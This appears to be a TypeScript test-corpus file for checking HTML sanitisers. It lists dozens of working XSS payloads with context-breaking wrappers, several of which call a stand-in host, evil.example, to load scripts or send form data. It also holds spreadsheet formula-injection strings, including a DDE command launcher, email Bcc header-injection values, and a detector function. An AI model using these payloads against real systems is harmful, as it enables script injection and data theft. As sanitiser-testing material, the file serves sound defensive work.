/** Function that every string of the corpus would call, were it ever run. */
const PROBE = 'xssprobe';

const RUNS: readonly string[] = [
  '<script>xssprobe(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<ScRiPt>xssprobe(1)</ScRiPt>',
  '<script/x>xssprobe(1)</script >',
  '<img src=x onerror=xssprobe(1)>',
  '<img src=x onerror="xssprobe(1)"',
  '<img/src/onerror=xssprobe(1)>',
  '<svg onload=xssprobe(1)>',
  '<svg/onload=xssprobe(1)>',
  '<svg><script>xssprobe(1)</script></svg>',
  '<svg><animate onbegin=xssprobe(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:xssprobe(1)"><text y=9>x</text></a></svg>',
  '<math><mi xlink:href="javascript:xssprobe(1)">x</mi></math>',
  '<iframe srcdoc="<script>parent.xssprobe(1)</script>">',
  '<iframe src=javascript:parent.xssprobe(1)>',
  '<object data=javascript:xssprobe(1)>',
  '<embed src=javascript:xssprobe(1)>',
  '<body onload=xssprobe(1)>',
  '<input autofocus onfocus=xssprobe(1)>',
  '<select autofocus onfocus=xssprobe(1)>',
  '<textarea autofocus onfocus=xssprobe(1)>',
  '<details open ontoggle=xssprobe(1)>x',
  '<video><source onerror=xssprobe(1)>',
  '<audio src onerror=xssprobe(1)>',
  '<marquee onstart=xssprobe(1)>x</marquee>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example><button>x',
  '<a href=javascript:xssprobe(1)>x</a>',
  '<a href="data:text/html,<script>xssprobe(1)</script>">x</a>',
  '<template><script>xssprobe(1)</script></template>',
  '<x onclick=xssprobe(1) tabindex=1 autofocus onfocus=xssprobe(1)>x',
  'javascript:xssprobe(1)',
  '" onmouseover="xssprobe(1)" x="',
  "' onmouseover='xssprobe(1)' x='",
  '` onmouseover=`xssprobe(1)` x=`',
  '</title><script>xssprobe(1)</script>',
  '</script><script>xssprobe(1)</script>',
  '</style><script>xssprobe(1)</script>',
  '</textarea><script>xssprobe(1)</script>',
  '--><script>xssprobe(1)</script>',
  ']]><script>xssprobe(1)</script>',
  '<!--<script>--><script>xssprobe(1)</script>',
  '&lt;script&gt;xssprobe(1)&lt;/script&gt;',
  '&#60;script&#62;xssprobe(1)&#60;/script&#62;',
  '\\u003cscript\\u003exssprobe(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-xssprobe(1)+ADw-/script+AD4-',
  '＜script＞xssprobe(1)＜/script＞',
  '{{constructor.constructor("xssprobe(1)")()}}',
  '${xssprobe(1)}',
  '[x](javascript:xssprobe(1))',
  '![x](x"onerror="xssprobe(1))',
];

const AROUND: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `</p></div></td>${inner}`,
];

/** Some 200 strings that run, load or close something where text is taken for HTML. */
export const markupCorpus = (): string[] => [...new Set(RUNS.flatMap((run) => AROUND.map((around) => around(run))))];

/** Texts that a spreadsheet program computes, or that end a line in a mail's head or a calendar file. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://evil.example","x")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  "=cmd|' /C calc'!A0",
  '＝1+1',
];
export const LINE_ENDS: readonly string[] = [
  '\r\nBcc: all@evil.example',
  '\nBcc: all@evil.example',
  '\rBcc: all@evil.example',
  '\u2028Bcc: x',
  '%0d%0aBcc: x',
];

/** A tag with something of the corpus in it: where all is text, its brackets are not written as they are. */
export const TAGGED = /<[^>]*(?:xssprobe|evil\.example)/i;

/**
 * Finds what a document would do by itself, looked for after it was parsed as a browser parses it; nothing where all is
 * text.
 */
export function whatRuns(document: Document): string[] {
  const found: string[] = [];
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${element.nodeName} ${name}=${value.slice(0, 40)}`);
      if (
        /^(href|src|action|formaction|data|xlink:href)$/i.test(name) &&
        /^\s*(javascript|data:text)|evil\.example/i.test(value)
      )
        found.push(`${element.nodeName} ${name}=${value.slice(0, 60)}`);
    }
    if (
      element.nodeName === 'SCRIPT' &&
      new RegExp(`^[^\\w]*(?:parent\\.)?${PROBE}`).test(element.textContent) &&
      !/json/.test(element.getAttribute('type') ?? '')
    )
      found.push(`SCRIPT ${element.textContent.slice(0, 60)}`);
    if (/^(IFRAME|OBJECT|EMBED|BASE|MARQUEE|X|MATH)$/i.test(element.nodeName)) found.push(element.nodeName);
  }
  return found;
}
